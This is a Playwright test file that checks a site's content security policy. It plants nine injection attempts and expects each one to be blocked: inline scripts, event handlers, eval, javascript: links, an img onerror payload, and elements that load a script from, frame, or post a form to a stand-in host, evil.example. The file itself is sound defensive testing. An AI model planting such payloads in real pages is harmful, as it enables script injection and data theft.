import { expect, openAsGuest, test } from './support.ts';

/** H2: what an attacker would plant does nothing, and the policy says so. Positive controls: each must be caught. */
const PLANTED: readonly (readonly [string, string])[] = [
  ['an inline script', `const s = document.createElement('script'); s.append('window.hit = 1'); document.body.append(s);`],
  [
    'an inline handler',
    `const b = document.createElement('button'); b.setAttribute('onclick', 'window.hit = 1'); document.body.append(b); b.click();`,
  ],
  ['eval', `try { (0, eval)('window.hit = 1'); } catch {}`],
  [
    'a javascript: link',
    `const a = document.createElement('a'); a.href = 'javascript:window.hit=1'; document.body.append(a); a.click();`,
  ],
  [
    'a foreign script',
    `try { const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s); } catch {}`,
  ],
  ['a base element', `const b = document.createElement('base'); b.href = 'https://evil.example/'; document.head.append(b);`],
  ['a frame', `const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f);`],
  [
    'a form to a foreign host',
    `const f = document.createElement('form'); f.action = 'https://evil.example/'; f.method = 'post'; document.body.append(f); f.submit();`,
  ],
  [
    'markup from a string',
    `try { document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.hit=1">'); } catch {}`,
  ],
];

test.describe('The content policy', () => {
  test.use({
    expected: [/content policy:|localStorage|Content Security Policy|TrustedHTML|TrustedScript|Failed to set|evil\.example/],
  });

  for (const [name, code] of PLANTED) {
    test(`stops ${name}`, async ({ page }) => {
      await page.addInitScript(() => {
        const caught: string[] = [];
        Object.assign(window, { caught });
        document.addEventListener('securitypolicyviolation', ({ violatedDirective }) => caught.push(violatedDirective));
      });
      await openAsGuest(page, '/about');
      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
      const address = page.url();
      // In a task of the page's own: what the debugger runs itself may evaluate strings.
      await page.evaluate(`setTimeout(() => { ${code} })`);
      await expect.poll(() => page.evaluate('window.caught.length')).toBeGreaterThan(0);
      expect(await page.evaluate('window.hit')).toBeUndefined();
      expect(page.url()).toBe(address);
    });
  }
});

test('A window locks the scroll of the page without a style element', async ({ page, player }) => {
  await openAsGuest(page, '/cycles/bogi-vtorogo-plana');
  await page.getByRole('button', { name: /^Слушать первую лекцию/ }).click();
  await player.toSound();
  await player.key('Следующая лекция').click();
  await expect(page.getByRole('dialog', { name: 'Подписка' })).toBeVisible();
  expect(await page.evaluate(() => getComputedStyle(document.body).overflowY)).toBe('hidden');
  expect(await page.evaluate(() => document.querySelectorAll('style').length)).toBe(0);
  await page.keyboard.press('Escape');
  await expect.poll(() => page.evaluate(() => getComputedStyle(document.body).overflowY)).not.toBe('hidden');
});
